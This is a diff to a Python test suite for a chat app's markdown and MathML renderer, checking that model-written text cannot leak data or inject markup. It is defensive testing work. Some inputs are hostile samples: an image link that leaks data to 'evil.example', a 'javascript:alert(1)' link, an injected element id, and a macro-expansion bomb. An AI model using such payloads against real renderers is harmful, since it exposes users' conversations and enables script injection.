@@ -10,7 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from hitlchat.chat import markdown, mathml
-from hitlchat.chat.markdown import ATTRIBUTES, TAGS, OpenTail, render
+from hitlchat.chat.markdown import ATTRIBUTES, SCROLLED, TAGS, OpenTail, render
 
 DOCUMENTS = {
     "nothing": "",
@@ -181,7 +181,9 @@ def assert_harmless(html: str) -> None:
             assert attributes.keys() <= mathml.ATTRIBUTES
             continue
         assert tag in TAGS
-        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
+        ours = {"rel"} if tag == "a" else set(SCROLLED.get(tag, ()))
+        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | ours
+        assert attributes.get("tabindex", "0") == "0"
         address = attributes.get("href") or ""
         assert not re.match(r"\s*[a-z]+:", address, re.IGNORECASE) or re.match(r"(https?|mailto):", address)
 
@@ -205,12 +207,42 @@ def test_no_mixture_of_these_letters_can_act(text: str) -> None:
 
 
 def test_an_image_would_tell_its_server_what_was_said_and_so_there_are_none() -> None:
-    assert "evil.example" not in str(render("![look](https://evil.example/?leak=secret)"))
+    html = render("See ![the *map* <b>](https://evil.example/?leak=secret)")
+    assert "evil.example" not in html
+    assert "See the *map* &lt;b&gt;" in html
 
 
 def test_a_link_says_where_it_leads_and_gives_nothing_away() -> None:
     assert 'href="https://a.example"' in render("[x](https://a.example)")
     assert 'rel="noopener noreferrer"' in render("[x](https://a.example)")
+
+
+@pytest.mark.parametrize(
+    "source, address, rest",
+    [
+        ("See https://a.example/x_y_z?q=1.", "https://a.example/x_y_z?q=1", "</a>.</p>"),
+        ("(https://a.example/b_(c))", "https://a.example/b_(c)", "</a>)</p>"),
+        ("**https://a.example/b**", "https://a.example/b", "</a></strong>"),
+    ],
+)
+def test_a_bare_address_is_a_link_without_what_ends_the_sentence(source: str, address: str, rest: str) -> None:
+    assert f'<a href="{address}" target="_blank" rel="noopener noreferrer">{address}{rest}' in render(source)
+
+
+@pytest.mark.parametrize(
+    "source", ["`https://a.example`", "```\nhttps://a.example\n```", "https://", "https://..", "a.example"]
+)
+def test_what_is_no_bare_address_is_no_link(source: str) -> None:
+    assert "<a" not in render(source)
+
+
+def test_an_address_within_a_link_makes_no_second_one() -> None:
+    assert str(render("[https://a.example](https://b.example)")).count("<a ") == 1
+
+
+def test_code_and_tables_are_scrolled_by_keyboard() -> None:
+    for source in ("```\nx\n```", "    x", "|a|\n|-|\n|b|", "x" * 31_000):
+        assert re.search('<(pre|table)[^>]* tabindex="0"', render(source)), source[:20]
 
 
 def test_code_is_coloured_by_classes_alone() -> None:
@@ -269,7 +301,7 @@ def test_a_link_opens_in_a_tab_of_its_own() -> None:
 
 
 def test_a_block_of_code_names_its_language() -> None:
-    assert '<pre data-language="python">' in render("```python\nx\n```")
+    assert '<pre data-language="python" tabindex="0">' in render("```python\nx\n```")
     assert "data-language" not in render("```\nx\n```")
 
 
@@ -292,6 +324,18 @@ def test_what_is_no_formula_stays_as_it_is(source: str) -> None:
 @pytest.mark.parametrize("source", [r"$\frac{$", r"$\left($", "$a^b^c$", "$" + "{" * 500 + "$", "$" + "x" * 3000 + "$"])
 def test_a_formula_that_cannot_be_set_shows_its_source(source: str) -> None:
     assert f'<code class="math-inline">{source[1:-1]}</code>' in render(source)
+
+
+@pytest.mark.parametrize("environment", ["aligned", "align*", "gathered", "gather*", "dcases", "cases", "equation"])
+def test_lines_of_a_formula_stand_below_each_other(environment: str) -> None:
+    html = render(rf"\[ \begin{{{environment}}} a &= b \\ &= c \end{{{environment}}} \]")
+    assert html.count("<mtr>") == 2
+    assert "&amp;" not in html
+
+
+def test_a_formula_with_commands_of_its_own_shows_its_source() -> None:
+    source = r"\newcommand{\a}[1]{" + "#1" * 300 + r"}\a{\a{xxxxxxxxxxxx}}"
+    assert f'<code class="math-inline">{source}</code>' in render(f"${source}$")
 
 
 def test_hidden_characters_of_a_formula_are_shown() -> None:
@@ -325,3 +369,36 @@ def test_a_footnote_that_grows_is_whole_once_the_answer_is() -> None:
         tail.extend(sign)
     assert "Three." in "".join(tail.blocks) + tail.tail
     assert "<sup>[1]</sup>" in render(text)
+
+
+def test_footnotes_lead_to_their_text_and_back_within_their_own_message() -> None:
+    html = render("Twice.[^a] Again.[^a]\n\n[^a]: First\n", place="m-1")
+    assert html == (
+        '<p>Twice.<sup><a id="m-1-ref-1-0" href="#m-1-note-1" aria-label="Footnote 1">[1]</a></sup>'
+        ' Again.<sup><a id="m-1-ref-1-1" href="#m-1-note-1" aria-label="Footnote 1">[1]</a></sup></p>\n'
+        '<hr><ol><li id="m-1-note-1"><p>First'
+        ' <a href="#m-1-ref-1-0" aria-label="Back to the text">↩</a>'
+        ' <a href="#m-1-ref-1-1" aria-label="Back to the text">↩</a></p>\n</li></ol>'
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<code class="note-ref">1.0</code>',
+        '`<code class="note-ref">1.0</code>`',
+        '<li><code class="note-at">1.0</code>',
+        '```note-ref">1.0\nx\n```',
+        "[^a]: `note-at`\n\n[x](#m-1-note-1)",
+    ],
+)
+def test_nothing_that_a_model_writes_becomes_a_place_of_the_page(text: str) -> None:
+    html = render(text, place="m-1")
+    assert ' id="' not in html
+    assert "aria-label" not in html
+
+
+def test_a_footnote_with_markup_stays_clean() -> None:
+    html = render("A[^a]\n\n[^a]: [x](javascript:alert(1)) <b id=run>\n", place="m-1")
+    assert "javascript:" not in html.replace("(javascript:alert(1))", "")
+    assert "<b" not in html
